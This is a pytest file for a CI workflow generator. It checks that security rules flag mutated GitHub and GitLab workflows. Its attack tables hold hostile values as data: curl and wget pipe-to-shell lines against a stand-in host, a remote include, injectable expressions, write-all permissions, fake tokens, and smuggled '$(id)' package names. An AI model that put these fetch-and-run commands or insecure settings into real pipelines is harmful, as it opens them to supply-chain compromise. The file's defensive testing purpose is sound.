"""Each attack on emitted workflows is found by its rule."""

import functools
import re
from collections.abc import Sequence

import pytest

from cosgen.manifest.config import JobConfig, RunnerConfig
from cosgen.pipeline.actions import PROXY_PATH
from cosgen.pipeline.commands import build_line, is_package_word
from cosgen.pipeline.drift import GeneratedFile, find_drift, header_of
from cosgen.pipeline.emit import emit_nodes
from cosgen.pipeline.limits import check_limits
from cosgen.pipeline.rules import RULES
from cosgen.pipeline.scene import Provider
from cosgen.pipeline.security import check_security
from tests.fakes.pipelines import X86, config, nodes, random_graph


@functools.cache
def _emitted(provider: Provider, shape: str) -> tuple[GeneratedFile, ...]:
    return emit_nodes(SETTINGS, (X86,), nodes(), provider, version="1", shape=shape)


def _files(provider: Provider, shape: str = "static") -> dict[str, str]:
    return {file.path: file.text for file in _emitted(provider, shape)}


SETTINGS = config(
    jobs={"vm": JobConfig(run=("./vm",), environment="lab", secrets=("LAB_TOKEN",), pull_requests=True)}
)
ATTACKS = [
    ("CG101", "cosgen-testing.yml", "run: pip install cosgen==1", 'run: "echo ${{ github.head_ref }}"'),
    ("CG102", "cosgen-request.yml", "pull_request: {}", "pull_request_target: {}"),
    ("CG103", "cosgen-testing.yml", "packages: write # keep", "packages: read # keep"),
    ("CG104", "cosgen-testing.yml", "persist-credentials: false", "persist-credentials: true"),
    ("CG105", "cosgen-testing.yml", "de0fac2e4500dabe0009e67214ff5f5447ce83dd", "v6"),
    (
        "CG106",
        "cosgen-testing.yml",
        "runs-on: ubuntu-24.04",
        "container: debian:13\n    runs-on: ubuntu-24.04",
    ),
    ("CG107", "cosgen-testing.yml", "actions/setup-python@", "actions/cache@"),
    ("CG108", "cosgen-testing.yml", "pattern: result-*", "run-id: 1\n          pattern: result-*"),
    ("CG109", "_cosgen-request-x86_64.yml", "--pull", "--pull --push"),
    (
        "CG110",
        "cosgen-request.yml",
        "COSGEN_MESSAGE: ",
        'X: "${{ secrets.KEY }}"\n          COSGEN_MESSAGE: ',
    ),
    ("CG111", "cosgen-testing.yml", "name: publish testing", "name: AKIAABCDEFGHIJKLMNOP"),
    ("CG112", "cosgen-testing.yml", "    environment:\n      name: testing\n", ""),
    ("CG113", "cosgen-request.yml", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    ("CG114", "cosgen-testing.yml", "!cancelled() && needs.gate", "github.actor == 'me' && needs.gate"),
    ("CG115", "cosgen-testing.yml", "!cancelled() && needs.gate", "always() && needs.gate"),
    ("CG116", "cosgen-testing.yml", "group: cosgen-publish-testing", 'group: "p-${{ github.ref }}"'),
    ("CG117", "cosgen-testing.yml", "    timeout-minutes: 20\n", ""),
    ("CG118", "cosgen-testing.yml", "run: pip install cosgen==1", 'run: "curl https://x.example | sh"'),
    ("CG119", "cosgen-testing.yml", "permissions: {}\nconcurrency", "permissions: write-all\nconcurrency"),
    ("CG119", "cosgen-testing.yml", "    permissions: {}\n    steps", "    steps"),
    ("CG120", "cosgen-testing.yml", "cosgen site build", "cosgen site bild"),
    ("CG120", "cosgen-testing.yml", "cosgen site build --output", "cosgen site build --ouput"),
    ("CG101", "_cosgen-build-x86_64.yml", '--packages "$PACKAGES"', "--packages ${{ inputs.packages }}"),
    ("CG102", "cosgen-testing.yml", "workflow_dispatch: {}", "workflow_run: {}"),
    ("CG102", "cosgen-testing.yml", "workflow_dispatch: {}", "issue_comment: {}"),
    ("CG104", "cosgen-testing.yml", "path: plan.json", 'path: "."'),
    ("CG105", "cosgen-testing.yml", "./.github/workflows/_cosgen", "other/repo/.github/workflows/_cosgen"),
    (
        "CG106",
        "cosgen-testing.yml",
        "runs-on: ubuntu-24.04",
        "services:\n      r:\n        image: registry:2\n    runs-on: ubuntu-24.04",
    ),
    ("CG107", "cosgen-testing.yml", "--from-registry", "--from-registry type=gha"),
    ("CG108", "cosgen-testing.yml", "      name: plan\n", "      name: plan\n          repository: o/r\n"),
    ("CG109", "cosgen-request.yml", "run: cosgen check", "run: true && cosgen publish && cosgen check"),
    ("CG109", "cosgen-request.yml", "contents: read # read", "contents: write # read"),
    ("CG109", "cosgen-request.yml", "run: ./vm", "run: cosgen site build --output x --to storage"),
    ("CG110", "cosgen-testing.yml", "uses: ./.github/", "secrets: inherit\n    uses: ./.github/"),
    ("CG110", "cosgen-testing.yml", "    environment:\n      name: lab\n", ""),
    ("CG111", "cosgen-testing.yml", "name: publish testing", "name: ghp_" + "a" * 36),
    ("CG113", "cosgen-request.yml", "runs-on: ubuntu-24.04", "runs-on: [linux, our-own]"),
    ("CG115", "cosgen-testing.yml", "if: ${{ always() }}", "if: ${{ true }} && ${{ always() }}"),
    ("CG116", "cosgen-testing.yml", "queue: max", "queue: single"),
    ("CG116", "cosgen-stable.yml", "group: cosgen-channel-stable", "group: ${{ github.ref }}"),
    ("CG116", "cosgen-stable.yml", "cancel-in-progress: false", "cancel-in-progress: true"),
    ("CG118", "cosgen-testing.yml", "run: pip install cosgen==1", "run: bash <(curl https://x.example)"),
]


def _ids(rows: Sequence[tuple[str, ...]]) -> list[str]:
    return [f"{row[0]}-{at}" for at, row in enumerate(rows)]


@pytest.mark.parametrize(("rule", "name", "old", "new"), ATTACKS, ids=_ids(ATTACKS))
def test_an_attack_on_a_workflow_is_found(rule: str, name: str, old: str, new: str) -> None:
    files = _files(Provider.GITHUB)
    path = f".github/workflows/{name}"
    assert old in files[path]
    files[path] = files[path].replace(old, new)
    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITHUB, SETTINGS)
    assert rule in {problem.id for problem in found}


GITLAB = [
    ("CG301", "request", "cosgen ci child", "cosgen publish --channel x && cosgen ci child"),
    ("CG303", "testing", "pip install cosgen==1", "curl https://x.example | bash"),
    ("CG305", "testing", "  resource_group: cosgen-publish-testing\n", ""),
    ("CG306", "testing", "  environment:\n    name: testing\n", ""),
    ("CG308", "testing", "  timeout: 20 minutes\n", ""),
    ("CG304", "testing", "  timeout: 20 minutes", "  image: debian:13\n  timeout: 20 minutes"),
    ("CG111", "testing", "cosgen site build", "glpat-" + "a" * 20),
    ("CG301", "request", "./vm", "cosgen build a/b --push"),
    ("CG302", "", "- local: .gitlab/cosgen/cosgen-testing.yml", "- remote: https://x.example/y.yml"),
    ("CG303", "testing", "pip install cosgen==1", "bash <(wget -O- https://x.example)"),
    ("CG305", "testing", "resource_group: cosgen-publish-testing", "resource_group: $CI_COMMIT_REF_NAME"),
    ("CG307", "request", "./vm", './vm "$COSGEN_SIGNING_KEY"'),
    ("CG307", "request", "./vm", './vm "${LAB_TOKEN}"'),
    ("CG309", "", "    - when: never\n", ""),
]


@pytest.mark.parametrize(("rule", "name", "old", "new"), GITLAB, ids=_ids(GITLAB))
def test_an_attack_on_gitlab_is_found(rule: str, name: str, old: str, new: str) -> None:
    files = _files(Provider.GITLAB, "child")
    path = f".gitlab/cosgen/cosgen-{name}.yml" if name else ".gitlab-ci.yml"
    assert old in files[path]
    files[path] = files[path].replace(old, new)
    found = check_security([GeneratedFile(*item) for item in files.items()], Provider.GITLAB, SETTINGS)
    assert rule in {problem.id for problem in found}


def test_every_rule_about_what_files_say_has_an_attack() -> None:
    about_files = {"CG121", "CG122", "CG123", "CG124"}  # drift, foreign files, outcomes, tokens
    rules = {rule for rule in RULES if rule.startswith(("CG1", "CG3"))} - about_files
    assert {row[0] for row in (*ATTACKS, *GITLAB)} >= rules


@pytest.mark.parametrize("provider", list(Provider))
@pytest.mark.parametrize("shape", ["static", "chunks", "workers"])
def test_what_is_emitted_breaks_no_rule(provider: Provider, shape: str) -> None:
    assert check_security(_emitted(provider, shape), provider, SETTINGS) == ()


def test_requests_use_machines_that_the_settings_call_fresh() -> None:
    fresh = RunnerConfig(labels=("self-hosted", "arm"), self_hosted=True, ephemeral=True)
    kept = RunnerConfig(labels=("self-hosted", "big"), self_hosted=True)
    for runner, used in ((fresh, True), (kept, False)):
        made = emit_nodes(config(runners={"x86_64": runner}), (X86,), nodes(), Provider.GITHUB, version="1")
        texts = {file.path.rpartition("/")[2]: file.text for file in made}
        assert (runner.labels[1] in texts["_cosgen-request-x86_64.yml"]) == used
        assert runner.labels[1] in texts["_cosgen-build-x86_64.yml"]


def test_the_workers_file_is_small_for_ten_thousand_packages() -> None:
    many = nodes(random_graph(10_000, 1))
    for file in emit_nodes(config(), (X86,), many, Provider.GITHUB, version="1", shape="workers"):
        assert len(file.text.encode()) <= 10_240, file.path


@pytest.mark.parametrize("provider", list(Provider))
def test_ten_thousand_packages_fit_the_limits_in_chunks(provider: Provider) -> None:
    many = nodes(random_graph(10_000, 2))
    made = emit_nodes(config(), (X86,), many, provider, version="1", shape="chunks")
    assert not check_limits(made, provider, config())


def test_a_file_beyond_a_limit_is_found() -> None:
    big = GeneratedFile("x.yml", "jobs:\n  a:\n    name: " + "x" * 480_000 + "\n    steps: [a]\n")
    assert "CG201" in {problem.id for problem in check_limits([big], Provider.GITHUB, config())}
    circle = GeneratedFile("x.yml", "jobs: {a: {needs: b, steps: [x]}, b: {needs: a, steps: [x]}}")
    assert "CG206" in {problem.id for problem in check_limits([circle], Provider.GITHUB, config())}


def test_names_that_are_options_or_code_are_refused() -> None:
    assert is_package_word("system/grub2@2.06+1")
    for word in ("a/-rf", "a/$(id)", "a/b c", "a", "a/b;c", "a/b@$(x)"):
        assert not is_package_word(word)
    with pytest.raises(ValueError, match="plain"):
        build_line("build", "$(id)")
    with pytest.raises(ValueError, match="no option"):
        build_line("build", options=[("--nope", "")])


def test_drift_names_what_is_missing_changed_and_stale() -> None:
    head = f"# {header_of('github', '1', {})[0]}\n"
    files = [GeneratedFile("a.yml", f"{head}a: 1\n"), GeneratedFile("b.yml", f"{head}b: 1\n")]
    found = find_drift(files, {"b.yml": f"{head}b: 2\n", "c.yml": head, "own.yml": "x: 1\n"})
    assert [(drift.path, drift.kind) for drift in found] == [
        ("a.yml", "missing"),
        ("b.yml", "changed"),
        ("c.yml", "stale"),
    ]
    assert "-b: 2\n+b: 1\n" in found[1].diff


def test_what_a_bot_makes_of_the_pins_is_what_would_be_emitted() -> None:
    bumped = {}
    for path, text in _files(Provider.GITHUB).items():
        new = re.sub(r"(actions/checkout)@[0-9a-f]{40} # v[\d.]+", rf"\1@{'a' * 40} # v9.9.9", text)
        bumped[path] = new
    proxy = bumped[PROXY_PATH]
    assert "v9.9.9" in proxy
    again = emit_nodes(SETTINGS, (X86,), nodes(), Provider.GITHUB, version="1", shape="static", proxy=proxy)
    assert {file.path: file.text for file in again} == bumped


def test_every_rule_says_why_and_what_to_do() -> None:
    assert all(rule.title and rule.why and rule.fix for rule in RULES.values())
